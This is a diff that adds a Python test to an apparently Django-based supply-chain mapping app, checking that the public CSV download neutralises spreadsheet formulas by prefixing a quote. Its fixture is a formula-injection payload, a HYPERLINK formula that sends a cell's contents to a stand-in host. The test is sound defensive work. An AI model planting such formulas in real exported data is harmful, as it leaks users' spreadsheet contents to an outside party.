@@ -257,3 +257,15 @@ def test_geojson_feature_ids_are_keys(tmp_path):
     path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
     assert run("import", "destinations", str(path)).exit_code == 0
     assert TradePoint.objects.get().key == "dest-1"
+
+
+def test_the_public_csv_download_never_carries_a_formula(tmp_path, client):
+    """A name that is a spreadsheet formula (as an import may bring) is quoted in /supplychain/<layer>.csv; the
+    curator's own export keeps it as it is, so it reads back without loss."""
+    formula = '=HYPERLINK("http://x.example/?"&A1,"ok")'
+    source = write_csv(tmp_path / "p.csv", [dict(POINTS[0], name=formula, notes="@SUM(1)")], [*POINT_COLUMNS, WKT])
+    assert run("import", "depots", str(source)).exit_code == 0
+    rows = list(csv.DictReader(client.get("/supplychain/depots.csv").content.decode().splitlines()))
+    assert [(r["name"], r["notes"]) for r in rows] == [("'" + formula, "'@SUM(1)")]
+    assert run("export", "depots", str(tmp_path / "out.csv")).exit_code == 0
+    assert [r["name"] for r in read_back(tmp_path / "out.csv")] == [formula]
